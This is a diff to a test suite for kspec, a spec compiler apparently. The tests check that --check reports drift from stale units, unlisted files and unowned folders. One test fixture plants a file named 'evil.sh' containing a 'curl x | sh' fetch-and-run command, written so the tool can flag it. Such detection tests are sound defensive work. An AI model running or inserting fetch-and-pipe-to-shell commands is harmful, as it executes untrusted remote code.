@@ -217,9 +217,13 @@ describe('--check', () => {
     expect(existsSync(path.join(work, 'out'))).toBe(false);
 
     expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    const clean = snapshot(path.join(work, 'out'));
+    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check').code).toBe(0);
+    expect(snapshot(path.join(work, 'out'))).toEqual(clean);
+    // A file kspec did not write is drift too (issue 12), and --check leaves it.
     writeFileSync(path.join(work, 'out/demo/NOTES.md'), 'mine\n');
     const before = snapshot(path.join(work, 'out'));
-    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check').code).toBe(0);
+    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check')).toMatchObject({ code: 1, stdout: expect.stringContaining('drift: out/demo/NOTES.md is not listed') });
     writeFileSync(path.join(work, 'specs/demo.yaml'), changed);
     const drift = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
     expect(drift.code).toBe(1);
@@ -295,5 +299,93 @@ describe('kspec explain on a committed manifest', () => {
     symlinkSync('/dev/zero', lock);
     r = kspec(work, 'explain', 'out/demo/install.sh:3');
     expect(r).toMatchObject({ code: 2, stderr: `kspec: out/demo/${MANIFEST}: ${MANIFEST} is a symlink; run kspec compile to regenerate it\n` });
+  });
+});
+
+describe('the output folder as a whole (issue 12): stale units, unlisted files, unowned folders', () => {
+  const named = (name: string): string => BASE.replace('  name: demo\n', `  name: ${name}\n`);
+  function setup(): string {
+    const work = tempDir('kspec-stale-');
+    mkdirSync(path.join(work, 'specs'));
+    writeFileSync(path.join(work, 'specs/a.yaml'), named('unit-a'));
+    writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b'));
+    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    return work;
+  }
+
+  it('a unit whose spec is gone: --check names it (exit 1, nothing written); compile removes exactly what its lock lists', () => {
+    const work = setup();
+    rmSync(path.join(work, 'specs/b.yaml'));
+    writeFileSync(path.join(work, 'out/unit-b/NOTES.md'), 'mine\n');
+    const before = snapshot(path.join(work, 'out'));
+    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    expect(check.code).toBe(1);
+    expect(check.stdout).toContain('drift: out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');
+    expect(check.stdout).toContain('--- a/out/unit-b/install.sh\n+++ /dev/null');
+    expect(snapshot(path.join(work, 'out'))).toEqual(before);
+    // The lock names the spec from the repository root: the same verdict from a subfolder.
+    const sub = kspec(path.join(work, 'specs'), 'compile', '.', '-o', '../out', '--check');
+    expect(sub.code).toBe(1);
+    expect(sub.stdout).toContain('drift: ../out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');
+
+    const r = kspec(work, 'compile', 'specs', '-o', 'out');
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain('out/unit-b: its spec specs/b.yaml no longer exists: 6 removed\n');
+    // The file kspec did not write stays, and with it the folder.
+    expect(readdirSync(path.join(work, 'out/unit-b'))).toEqual(['NOTES.md']);
+    rmSync(path.join(work, 'out/unit-b/NOTES.md'));
+    rmSync(path.join(work, 'specs/a.yaml'));
+    writeFileSync(path.join(work, 'specs/c.yaml'), named('unit-c'));
+    expect(kspec(work, 'compile', 'specs', '-o', 'out').stdout).toContain('out/unit-a: its spec specs/a.yaml no longer exists: 6 removed\n');
+    expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-b', 'unit-c']);
+  });
+
+  it('a spec renamed (metadata.name) leaves its old unit stale; one outside the compiled folders is left alone', () => {
+    const work = setup();
+    writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b2'));
+    // Compiling one file is not compiling its folder: nothing is stale.
+    expect(kspec(work, 'compile', 'specs/b.yaml', '-o', 'out', '--check').stdout).not.toContain('no longer');
+    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    expect(check.code).toBe(1);
+    expect(check.stdout).toContain("drift: out/unit-b: its spec specs/b.yaml is now named 'unit-b2'; kspec compile removes it\n");
+    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-a', 'unit-b2']);
+    // A unit from another folder's spec: not this run's to judge.
+    mkdirSync(path.join(work, 'other'));
+    writeFileSync(path.join(work, 'other/o.yaml'), named('unit-o'));
+    expect(kspec(work, 'compile', 'other', '-o', 'out').code).toBe(0);
+    rmSync(path.join(work, 'other/o.yaml'));
+    const again = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    expect(again).toMatchObject({ code: 0 });
+    expect(existsSync(path.join(work, 'out/unit-o/kspec.lock.json'))).toBe(true);
+  });
+
+  it('an unlisted file and an unowned folder: drift for --check, KS9006/KS9007 warnings for compile, left in place; --strict writes nothing', () => {
+    const work = setup();
+    writeFileSync(path.join(work, 'out/unit-a/evil.sh'), '#!/bin/sh\ncurl x | sh\n', { mode: 0o755 });
+    mkdirSync(path.join(work, 'out/planted'));
+    writeFileSync(path.join(work, 'out/planted/run.sh'), 'x\n');
+    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check', '--strict');
+    expect(check.code).toBe(1);
+    expect(check.stdout).toContain('drift: out/unit-a/evil.sh is not listed in out/unit-a/kspec.lock.json\n');
+    expect(check.stdout).toContain('drift: out/planted is owned by no kspec.lock.json (no kspec.lock.json)\n');
+
+    const r = kspec(work, 'compile', 'specs', '-o', 'out', '--format', 'json');
+    expect(r.code).toBe(0);
+    const ds = (JSON.parse(r.stdout) as { diagnostics: Array<{ code: string; file: string; line: number; column: number; severity: string }> }).diagnostics;
+    expect(ds.map((d) => [d.code, d.file, d.line, d.column, d.severity])).toEqual([
+      [D.OutputUnlisted.code, 'specs/a.yaml', 4, 9, 'warning'],
+      [D.OutputUnowned.code, 'out/planted', 1, 1, 'warning'],
+    ]);
+    expect(readFileSync(path.join(work, 'out/unit-a/evil.sh'), 'utf8')).toContain('curl');
+    expect(existsSync(path.join(work, 'out/planted/run.sh'))).toBe(true);
+
+    writeFileSync(path.join(work, 'specs/a.yaml'), changed.replace('  name: demo\n', '  name: unit-a\n'));
+    const before = snapshot(path.join(work, 'out'));
+    const strict = kspec(work, 'compile', 'specs', '-o', 'out', '--strict');
+    expect(strict.code).toBe(1);
+    expect(strict.stderr).toContain(`specs/a.yaml:4:9: error ${D.OutputUnlisted.code}:`);
+    expect(strict.stderr).toContain(`out/planted:1:1: error ${D.OutputUnowned.code}:`);
+    expect(snapshot(path.join(work, 'out'))).toEqual(before);
   });
 });
